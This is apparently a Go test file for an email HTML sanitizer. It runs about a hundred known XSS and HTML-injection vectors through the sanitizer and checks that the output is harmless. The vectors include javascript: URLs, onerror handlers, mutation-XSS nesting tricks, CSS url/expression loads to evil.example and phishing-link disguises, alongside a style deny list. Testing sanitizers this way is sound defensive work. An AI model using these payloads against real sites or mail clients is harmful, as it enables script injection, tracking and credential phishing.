package mailbox

import (
	"bytes"
	"encoding/base64"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"golang.org/x/net/html"
)

// dot is a picture of one point.
const dot = "R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw=="

// safeOf lays out a letter whose one part is HTML.
func safeOf(t testing.TB, src string) Safe {
	t.Helper()
	return safeLetter(t, "From: a@example.org\nContent-Type: text/html; charset=utf-8\n\n"+src)
}

func safeLetter(t testing.TB, letter string) Safe {
	t.Helper()
	page, ok := SafeHTML(strings.NewReader(letter), int64(len(letter)), Limits{})
	if !ok {
		t.Error("no HTML was found")
	}
	checkSafe(t, page.HTML)
	return page
}

// vectors are ways in which HTML has been made to run, load or send something
// behind the back of who shows it.
var vectors = []string{
	`<script>alert(1)</script>`,
	`<ScRiPt src=https://evil.example/x.js></sCrIpT>`,
	`<script/x>alert(1)</script/x>`,
	`<<script>alert(1)//<</script>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
	`<img src=x onerror=alert(1)>`,
	`<img/src=x/onerror=alert(1)>`,
	"<img src=x\tonerror\n=\ralert(1)>",
	`<img src="x"onerror="alert(1)">`,
	`<img src='cid:"onerror=alert(1)'>`,
	`<img src="javascript:alert(1)">`,
	`<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>`,
	`<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
	`<img src="data:image/gif;base64,` + dot + `" onload=alert(1) srcset="https://evil.example/1 1x">`,
	`<img srcset="https://evil.example/a.png 2x, https://evil.example/b.png">`,
	`<img lowsrc=https://evil.example/ dynsrc=https://evil.example/ longdesc=javascript:alert(1)>`,
	`<body onload=alert(1) background=https://evil.example/>x`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href=" &#14; javascript:alert(1)">x</a>`,
	"<a href=\"java\nscript:alert(1)\">x</a>",
	`<a href="java&#9;script:alert(1)">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
	`<a href="javascript&colon;alert(1)">x</a>`,
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="file:///etc/passwd">x</a> <a href="blob:https://evil.example/1">y</a> <a href="//evil.example">z</a>`,
	`<a href="https://good.example\@evil.example/">x</a>`,
	`<a href="https:evil.example">x</a><a href=https:///evil.example>y</a>`,
	`<a href="https://example.org/" ping="https://evil.example/" target=_top onclick=alert(1) style=position:fixed>x</a>`,
	`<a href='https://example.org/"onmouseover="alert(1)'>x</a>`,
	`<base href="https://evil.example/"><a href="x">x</a>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example/">`,
	`<meta http-equiv="Content-Security-Policy" content="default-src *">`,
	`<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example/>`,
	`<link rel=dns-prefetch href=//evil.example>`,
	`<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/)}</style>`,
	`<style><img src="</style><img src=x onerror=alert(1)//">`,
	`<p style="background:url(https://evil.example/)">x</p>`,
	`<p style="background-image:u\72l('https://evil.example/')">x</p>`,
	`<p style="width:expression(alert(1))">x</p>`,
	`<p style="width:exp/**/ression(alert(1))">x</p>`,
	`<p style="behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml#a)">x</p>`,
	`<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>`,
	`<p style="margin-top:-500px;transform:scale(99);float:left;opacity:0">x</p>`,
	`<p style='color:red" onmouseover="alert(1)'>x</p>`,
	`<p style="font-family:'x;}</style><script>alert(1)</script>">x</p>`,
	`<p style="list-style-image:url(data:image/svg+xml,x);cursor:url(https://evil.example/)">x</p>`,
	`<p style="content:attr(x);color:var(--x);--x:url(https://evil.example/)">x</p>`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>`,
	`<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>`,
	`<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"></use></svg>`,
	`<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<math href="javascript:alert(1)">x</math>`,
	`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
	`<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
	`<textarea><p title="</textarea><img src=x onerror=alert(1)>">`,
	`<title><a title="</title><img src=x onerror=alert(1)>">`,
	`<plaintext><img src=x onerror=alert(1)>`,
	`<template><script>alert(1)</script></template>`,
	`<select><style></select><img src=x onerror=alert(1)></style>`,
	`<table><caption><svg><desc><table><caption></svg><style><a id="</style><img src onerror=alert(1)>">`,
	`<iframe src=javascript:alert(1)></iframe><iframe srcdoc="<script>alert(1)</script>">`,
	`<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>`,
	`<object data=https://evil.example/x.swf><embed src=https://evil.example/x.swf></object>`,
	`<object type=text/html data="data:text/html,<script>alert(1)</script>"></object>`,
	`<applet code=x.class></applet>`,
	`<video src=https://evil.example/ poster=https://evil.example/ onerror=alert(1)><source src=https://evil.example/></video>`,
	`<audio src=https://evil.example/ autoplay onloadstart=alert(1)></audio>`,
	`<form action=https://evil.example/><input name=p type=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button></form>`,
	`<form id=a></form><form><input form=a><form action=javascript:alert(1)><input type=image src=x onerror=alert(1)></form></form>`,
	`<isindex type=image src=https://evil.example/ action=javascript:alert(1)>`,
	`<keygen autofocus onfocus=alert(1)><details open ontoggle=alert(1)><marquee onstart=alert(1)>`,
	`<table background=javascript:alert(1)><tr><td background=https://evil.example/>x</table>`,
	`<div id=main name=body class=app-concern contenteditable tabindex=1 accesskey=x draggable=true>x</div>`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<!-- --!><img src=x onerror=alert(1)> -->`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><?import namespace="t" implementation="#default#time2">x`,
	`<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;`,
	`<p title="<!-- "><img src=x onerror=alert(1)>`,
	`<a href="https://example.org"><img src=x onerror="alert(1)`,
	`<div <script>alert(1)</script>`,
	`<b </main></body></html><script>alert(1)</script>`,
	`</div></main></body></html><h1>Sign in</h1>`,
	"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
	"\xbcscript\xbealert(1)\xbc/script\xbe",
	`<map name=m><area href=javascript:alert(1) shape=default></map><img usemap=#m src="data:image/gif;base64,` + dot + `">`,
	`<dialog open><slot><custom-element onclick=alert(1)>x</custom-element></slot></dialog>`,
	`<portal src=https://evil.example/></portal><fencedframe></fencedframe>`,
	"<p>\u202etxt.exe\u202c a\u200bb &#8238;c&#x200b;d</p>",
}

func TestKnownAttacksAreHarmless(t *testing.T) {
	for _, v := range vectors {
		if page := safeOf(t, "<p>before</p>"+v); !strings.Contains(page.HTML, "before") {
			t.Errorf("%q: the text before it is lost: %q", v, page.HTML)
		}
		if t.Failed() {
			t.Fatalf("letter: %q", v)
		}
	}
}

// checkSafe reads a page as a browser does, and again by its tags alone, and
// fails at whatever it may not have.
func checkSafe(t testing.TB, page string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader("<!DOCTYPE html><html><head><title>x</title></head><body><main>" + page + "</main><i></i></body></html>"))
	if err != nil {
		t.Error(err)
		return
	}
	body := doc.LastChild.LastChild
	main := body.FirstChild
	if main.Data != "main" || main.NextSibling == nil || main.NextSibling.Data != "i" || main.NextSibling.NextSibling != nil {
		t.Errorf("it leaves its place: %q", page)
	}
	for n := range main.Descendants() {
		checkNode(t, n)
	}
	open := []string{}
	for z := html.NewTokenizer(strings.NewReader(page)); ; {
		switch z.Next() {
		case html.ErrorToken:
			if len(open) > 0 {
				t.Errorf("never closed: %v in %q", open, page)
			}
			return
		case html.StartTagToken:
			if tag := z.Token(); !voidTag[tag.DataAtom] {
				open = append(open, tag.Data)
			}
		case html.EndTagToken:
			tag := z.Token()
			if len(open) == 0 || open[len(open)-1] != tag.Data {
				t.Errorf("</%s> closes %v in %q", tag.Data, open, page)
				return
			}
			open = open[:len(open)-1]
		}
	}
}

func checkNode(t testing.TB, n *html.Node) {
	t.Helper()
	switch n.Type {
	case html.TextNode:
		for _, r := range n.Data {
			if invisible(r) || unicode.IsControl(r) && r != '\n' && r != '\t' {
				t.Errorf("the text holds %U", r)
			}
		}
		if !utf8.ValidString(n.Data) {
			t.Errorf("no UTF-8: %q", n.Data)
		}
		return
	case html.ElementNode:
	default:
		t.Errorf("a node of type %d: %q", n.Type, n.Data)
		return
	}
	if !displayed[n.Data] || n.Namespace != "" {
		t.Errorf("<%s>", n.Data)
	}
	for _, a := range n.Attr {
		if !attrIsSafe(n.Data, a) {
			t.Errorf("<%s %s=%.100q>", n.Data, a.Key, a.Val)
		}
	}
}

// attrIsSafe knows of attributes by itself, not by the lists that made them.
func attrIsSafe(element string, a html.Attribute) bool {
	u, err := url.Parse(a.Val)
	switch element + " " + a.Key {
	case "a href":
		return err == nil && (u.Scheme == "mailto" || (u.Scheme == "http" || u.Scheme == "https") && u.Host != "" && u.User == nil)
	case "a rel":
		return a.Val == "noopener noreferrer nofollow"
	case "a title":
		return strings.HasPrefix(a.Val, "Leads to ")
	case "img src":
		head, code, ok := strings.Cut(a.Val, ";base64,")
		_, err := base64.StdEncoding.DecodeString(code)
		return ok && err == nil && strings.Contains(" data:image/png data:image/jpeg data:image/gif data:image/webp ", " "+head+" ")
	case "img alt":
		return true
	}
	switch a.Key {
	case "style":
		for _, bad := range []string{"url", "position", "expression", "behavior", "binding", "import", "\\", "/*", "var(", ": -", "@", "<", "display", "float", "transform"} {
			if strings.Contains(strings.ReplaceAll(strings.ToLower(a.Val), "text-transform: ", ""), bad) {
				return false
			}
		}
		return true
	case "align", "valign", "bgcolor", "width", "height", "border", "cellpadding", "cellspacing", "colspan", "rowspan", "span", "color", "size", "face",
		"start", "type", "value", "dir", "lang":
		return !strings.ContainsAny(a.Val, `<>"&:/()\`)
	}
	return false
}

func TestLayoutIsKept(t *testing.T) {
	for _, c := range []struct{ name, src, want string }{
		{"tables", `<table width=600 cellpadding=4><tr><td bgcolor=#eee colspan=2 style="padding:4px;text-align:center">a<td>b</table>`,
			`<table width="600" cellpadding="4"><tr><td bgcolor="#eee" colspan="2" style="padding: 4px; text-align: center">a</td><td>b</td></tr></table>`},
		{"lists", `<ul><li>a<li>b<ol start=3><li>c</ol></ul>`, `<ul><li>a</li><li>b<ol start="3"><li>c</li></ol></li></ul>`},
		{"paragraphs", `<p>a<p class=x>b<div>c</div>`, `<p>a</p><p>b</p><div>c</div>`},
		{"Outlook's", `<p class=MsoNormal style='margin:0cm;font-size:11.0pt;font-family:"Calibri",sans-serif'><span lang=EN-GB>a&nbsp;<o:p></o:p></span></p>`,
			`<p style="margin: 0cm; font-size: 11.0pt; font-family: &#39;calibri&#39;,sans-serif"><span lang="EN-GB">a` + "\u00a0" + `</span></p>`},
		{"wrongly nested", `<p><b>a<i>b</b>c</i></p>d`, `<p><b>a<i>b</i></b>c</p>d`},
		{"headings of a page", `<body><h1>a</h1><main><form><label>b</label><input value=c><button>d</button></form></main></body>`, `<div><h2>a</h2><div><div>bd</div></div></div>`},
		{"background", `<td>x<p style="background:#fff; COLOR: Red !important; border-left:solid #ccc 1px;display:block">a`, `<td>x<p style="background-color: #fff; color: red; border-left: solid #ccc 1px">a</p></td>`},
		{"hidden", `<div style="display:none">preheader</div>a<p hidden>b</p>`, `a`},
		{"hidden and never closed", `a<div style="display:none">b`, `a<div>b</div>`},
		{"beyond its cell", `<b><table><tr><td></b>a</td></tr></table></b>b`, `<b><table><tr><td>a</td></tr></table></b>b`},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := safeOf(t, c.src).HTML; got != c.want {
				t.Errorf("\ngot  %s\nwant %s", got, c.want)
			}
		})
	}
}

func TestLinksShowWhereTheyLead(t *testing.T) {
	for _, c := range []struct{ src, host, warning string }{
		{`<a href="https://example.org/a?b=c&amp;d=e">the page</a>`, "example.org", ""},
		{`<a href="https://www.example.org/a">https://example.org/a</a>`, "www.example.org", ""},
		{`<a href="https://evil.example/">https://bank.example.org/</a>`, "evil.example", "evil.example"},
		{`<a href="https://bank.example.org@evil.example/"><b>www.bank.example.org</b></a>`, "evil.example", "evil.example"},
		{`<a href="https://bank.example.org.evil.example/">bank.example.org</a>`, "bank.example.org.evil.example", "bank.example.org.evil.example"},
		{`<a href="https://exаmple.org/">example.org</a>`, "xn--exmple-4nf.org", "xn--exmple-4nf.org"}, // the third letter is Cyrillic
		{`<a href="HTTPS://EXAMPLE.ORG:8443/">Example.org</a>`, "example.org", ""},
		{`<a href="mailto:jo@example.org?subject=x">jo@example.org</a>`, "jo@example.org", ""},
		{`<a href="mailto:sam@evil.example">jo@example.org</a>`, "sam@evil.example", "sam@evil.example"},
		{"<a href=https://evil.example/>bank.ex\u200bample\u00ad.org</a>", "evil.example", "evil.example"},
		{`<a href="https://evil.example/">evil.example or bank.example.org</a>`, "evil.example", "evil.example"},
		{`<a href="https://evil.example/">` + strings.Repeat(" &nbsp;", 500) + `bank.example.org</a>`, "evil.example", "evil.example"},
		{"<a href=https://evil.example/>bank\uff0eexample.org</a>", "evil.example", "evil.example"},
		{`<a href="https://example.org/a/b.pdf">https://example.org/a/b.pdf</a>`, "example.org", ""},
	} {
		page := safeOf(t, c.src).HTML
		if !strings.Contains(page, `title="Leads to `+c.host+`"`) {
			t.Errorf("%s: %s", c.src, page)
		}
		_, after, warned := strings.Cut(page, "[leads to ")
		if target, _, _ := strings.Cut(after, "]"); warned != (c.warning != "") || target != c.warning {
			t.Errorf("%s: warns of %q: %s", c.src, target, page)
		}
	}
}

func TestOnlyPicturesOfTheLetterAreShown(t *testing.T) {
	const parts = "\n--b\nContent-Type: image/gif\nContent-ID: <dot@x>\nContent-Transfer-Encoding: base64\n\n" + dot +
		"\n--b\nContent-Type: image/png\nContent-ID: <drawing>\n\n<svg onload=alert(1)>" +
		"\n--b\nContent-Type: image/png\nContent-Location: https://example.org/logo.gif\nContent-Transfer-Encoding: base64\n\n" + dot + "\n--b--\n"
	page := safeLetter(t, `From: a@example.org
Content-Type: multipart/related; boundary=b

--b
Content-Type: text/html

<img src="cid:dot@x" alt=Dot width=1><img src="CID:dot%40x"><img src=https://example.org/logo.gif>
<img src=cid:drawing alt=Drawing><img src=cid:none><img src=data:image/gif;base64,`+dot+`>
<img src=https://evil.example/pixel.gif alt=Offer><img srcset="https://evil.example/a 1x"><td background=//evil.example/b style="background:url(x)">
<div style="display:none"><img src="http://evil.example/c"></div>`+parts)
	if n := strings.Count(page.HTML, `src="data:image/gif;base64,`+dot); n != 4 {
		t.Errorf("%d pictures: %s", n, page.HTML)
	}
	if page.Remote != 4 || page.Withheld != 2 || page.Cut {
		t.Errorf("%d remote, %d withheld, cut %v", page.Remote, page.Withheld, page.Cut)
	}
	for _, alt := range []string{"Drawing", "Offer", `alt="Dot" width="1"`} {
		if !strings.Contains(page.HTML, alt) {
			t.Errorf("%s is missing: %s", alt, page.HTML)
		}
	}
}

func TestPicturesAreBounded(t *testing.T) {
	big := "GIF89a" + strings.Repeat("x", maxPicture-6)
	letter := func(picture string, times int) Safe {
		return safeLetter(t, "From: a@example.org\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n"+
			strings.Repeat("<img src=cid:a>", times)+"\n--b\nContent-Type: image/gif\nContent-ID: <a>\n\n"+picture+"\n--b--\n")
	}
	if page := letter(big+"x", 1); page.Withheld != 1 || strings.Contains(page.HTML, "<img") {
		t.Errorf("a picture over the limit is shown")
	}
	page := letter(big, 5)
	if shown := strings.Count(page.HTML, "<img"); shown < 1 || shown+page.Withheld != 5 || len(page.HTML) > maxPictures+1000 {
		t.Errorf("%d shown, %d withheld, %d bytes", shown, page.Withheld, len(page.HTML))
	}
}

func TestWhichTextIsLaidOut(t *testing.T) {
	const head = "From: a@example.org\nContent-Type: "
	const plain, rich = "\n--b\n\nplain words", "\n--b\nContent-Type: text/html\n\n<b>rich</b>"
	for _, c := range []struct{ name, letter, want string }{
		{"alternative", head + "multipart/alternative; boundary=b\n" + plain + rich + "\n--b--\n", "<b>rich</b>"},
		{"the last of two", head + "multipart/alternative; boundary=b\n\n--b\nContent-Type: text/html\n\nold" + rich + plain + "\n--b--\n", "<b>rich</b>"},
		{"with a footer", head + "multipart/mixed; boundary=b\n" + rich + plain + "\n--b--\n", `<b>rich</b><div style="white-space: pre-wrap">plain words` + "\n</div>"},
		{"related", head + "multipart/related; start=\"<r>\"; boundary=b\n\n--b\nContent-Type: text/html\n\nno" +
			"\n--b\nContent-ID: <r>\nContent-Type: text/html\n\n<b>rich</b>\n--b--\n", "<b>rich</b>"},
		{"an attached page", head + "multipart/mixed; boundary=b\n" + plain + "\n--b\nContent-Type: text/html\nContent-Disposition: attachment; filename=a.html\n\n<b>no</b>\n--b--\n", ""},
		{"plain", head + "text/plain\n\n<b>no</b>", ""},
		{"in Latin-1", head + "text/html; charset=iso-8859-1\n\ncaf\xe9", "café"},
		{"in UTF-16", head + "text/html\n\n<\x00b\x00>\x00a\x00n\x00d\x00<\x00/\x00b\x00>\x00", "<b>and</b>"},
		{"by its meta", head + "text/html\n\n<meta charset=windows-1251>\xcf\xf0\xe8\xe2\xe5\xf2", "Привет"},
	} {
		t.Run(c.name, func(t *testing.T) {
			page, ok := SafeHTML(strings.NewReader(c.letter), int64(len(c.letter)), Limits{})
			if got := strings.TrimSpace(page.HTML); got != c.want || ok != (c.want != "") {
				t.Errorf("got %q, %v; want %q", got, ok, c.want)
			}
		})
	}
}

func TestLongLayoutsAreCut(t *testing.T) {
	letter := "From: a@example.org\nContent-Type: text/html\n\n" + strings.Repeat("<p>a word", 1000)
	page, ok := SafeHTML(strings.NewReader(letter), int64(len(letter)), Limits{TextBytes: 1000})
	if !ok || !page.Cut || len(page.HTML) > 2100 {
		t.Errorf("%v, cut %v, %d bytes", ok, page.Cut, len(page.HTML))
	}
	checkSafe(t, page.HTML)
}

// FuzzSafeHTML: whatever the letter, what is shown of it holds nothing but what
// may be shown, stays in its place and ends.
func FuzzSafeHTML(f *testing.F) {
	seeds(f, func(raw []byte) { f.Add(string(raw)) })
	for _, v := range vectors {
		f.Add("Content-Type: text/html\n\n" + v)
	}
	f.Fuzz(func(t *testing.T, letter string) {
		page, ok := SafeHTML(strings.NewReader(letter), int64(len(letter)), Limits{Depth: 5, Parts: 30, HeaderBytes: 4096, TextBytes: 20_000})
		if !ok && page != (Safe{}) {
			t.Errorf("plain text has a layout: %+v", page)
		}
		checkSafe(t, page.HTML)
	})
}

// Pages offer the layout by what Parse said of a letter.
func TestParseKnowsWhichLettersHaveALayout(t *testing.T) {
	letters, err := filepath.Glob("testdata/*/letter.eml")
	if err != nil || len(letters) < 50 {
		t.Fatal(len(letters), err)
	}
	laid := 0
	for _, name := range letters {
		raw, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		_, ok := SafeHTML(bytes.NewReader(raw), int64(len(raw)), Limits{})
		if m := ParseBytes(raw, Limits{}); m.HTML != ok {
			t.Errorf("%s: %v, Parse says %v", name, ok, m.HTML)
		}
		if ok {
			laid++
		}
	}
	if laid == 0 || laid == len(letters) {
		t.Errorf("%d of %d have a layout", laid, len(letters))
	}
}
